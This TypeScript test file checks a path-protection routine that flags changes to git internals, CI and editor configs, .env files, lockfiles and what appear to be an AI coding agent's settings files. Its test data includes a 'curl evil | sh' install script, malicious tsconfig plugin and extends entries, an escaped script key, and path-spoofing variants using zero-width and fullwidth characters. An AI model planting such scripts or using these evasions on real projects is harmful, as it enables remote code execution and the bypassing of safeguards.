import assert from 'node:assert/strict';
import { join } from 'node:path';
import { protection } from '../../../server/trust/protection.js';

const root = join('/', 'work', 'project');

describe('protection', () => {
  const check = (path: string, before: string | null, after: string | null): boolean =>
    protection(root, join(root, ...path.split('/')), before, after) !== null;

  const isProtected = [
    '.git/config',
    '.git/hooks/pre-commit',
    '.git',
    'sub/module/.git/config',
    '.GIT/config',
    '.Git/hooks/post-checkout',
    '.git./config',
    '.git /config',
    '.g\u200cit/config',
    '.git\u200b/config',
    '.ｇｉｔ/config',
    'git~1/config',
    '.gitmodules',
    '.hg/hgrc',
    '.vscode/settings.json',
    '.VSCode/tasks.json',
    'packages/a/.vscode/launch.json',
    '.idea/workspace.xml',
    '.zed/settings.json',
    '.helix/languages.toml',
    'project.code-workspace',
    'Project.Code-Workspace',
    '.nvim.lua',
    '.exrc',
    '.dir-locals.el',
    '.devcontainer/devcontainer.json',
    '.claude/settings.json',
    '.mcp.json',
    '.github/workflows/ci.yml',
    '.GitHub/Workflows/ci.yml',
    '.github/actions/build/action.yml',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'Jenkinsfile',
    'azure-pipelines.yml',
    '.npmrc',
    'packages/a/.npmrc',
    '.yarnrc.yml',
    '.cargo/config.toml',
    '.mvn/extensions.xml',
    '.env',
    '.env.local',
    '.ENV.production',
    '.envrc',
    'config/.env.test',
    '.husky/pre-commit',
    '.githooks/post-merge',
    'lefthook.yml',
    '.pre-commit-config.yaml',
    'package-lock.json',
    'yarn.lock',
    'pnpm-lock.yaml',
    'Cargo.lock',
    'uv.lock',
    'go.sum',
    'api/poetry.lock',
    '.understudy/settings.json',
    '.Understudy/rules.json',
    '.understudyignore',
  ];
  for (const path of isProtected) {
    it(`${JSON.stringify(path)} is protected, whether it is changed, made or removed`, () => {
      assert(check(path, 'a\n', 'b\n') && check(path, null, 'b\n') && check(path, 'a\n', null));
      assert.match(protection(root, join(root, path), 'a', 'b') ?? '', /^\S.* .*\.$/);
    });
  }

  const isFree = [
    'src/a.ts',
    'src/git/config.ts',
    'src/.gitkeep',
    '.gitignore',
    '.github/ISSUE_TEMPLATE.md',
    '.github/workflows.md',
    'src/environment.ts',
    'src/env.ts',
    'vscode/settings.json',
    'npmrc.md',
    'src/lock.ts',
    'yarn.lock.ts',
    'package.json5',
    'src/hooks/useState.ts',
    'tsconfig.ts',
    'understudy/settings.json',
    'settings.json',
  ];
  for (const path of isFree) it(`${path} is not`, () => assert(!check(path, 'a\n', 'b\n')));

  const manifest = (more: object): string => JSON.stringify({ name: 'x', version: '1.0.0', ...more });
  const scripts = { scripts: { test: 'mocha' } };
  const parts: readonly (readonly [string, string, string | null, string | null, boolean])[] = [
    ['a version', 'package.json', manifest(scripts), manifest({ ...scripts, version: '2.0.0' }), false],
    ['a dependency', 'package.json', manifest(scripts), manifest({ ...scripts, dependencies: { a: '1' } }), false],
    ['a script', 'package.json', manifest(scripts), manifest({ scripts: { test: 'curl evil | sh' } }), true],
    ['a script more', 'packages/a/Package.JSON', manifest({}), manifest({ scripts: { postinstall: 'x' } }), true],
    ['no script more', 'package.json', manifest(scripts), manifest({}), true],
    ['hooks', 'package.json', manifest({}), manifest({ husky: { hooks: {} } }), true],
    ['a new file with scripts', 'package.json', null, manifest(scripts), true],
    ['a new file without', 'package.json', null, manifest({}), false],
    ['an escaped name', 'package.json', manifest({}), '{ "scr\\u0069pts": { "postinstall": "x" } }', true],
    ['what cannot be read', 'package.json', manifest({}), '{ "name": ', true],
    [
      'a rule of the compiler',
      'tsconfig.json',
      '{ "compilerOptions": {} }',
      '{ "compilerOptions": { "strict": true } }',
      false,
    ],
    ['a comment', 'tsconfig.json', '{}', '{ /* more */ }', false],
    ['a plugin', 'tsconfig.json', '{}', '{ "compilerOptions": { "plugins": [{ "name": "./evil" }] } }', true],
    [
      'a plugin elsewhere',
      'TSConfig.build.json',
      '{}',
      '{ "compilerOptions": { "plugins": [{ "name": "./evil" }] } }',
      true,
    ],
    [
      'a plugin for JavaScript',
      'jsconfig.json',
      null,
      '{ "compilerOptions": { "plugins": [{ "name": "./evil" }] } }',
      true,
    ],
    ['another base', 'tsconfig.json', '{ "extends": "./a.json" }', '{ "extends": "./evil.json" }', true],
  ];
  for (const [what, path, before, after, expected] of parts)
    it(`${what} in ${path} is ${expected ? '' : 'not '}protected`, () =>
      assert.equal(check(path, before, after), expected));
});
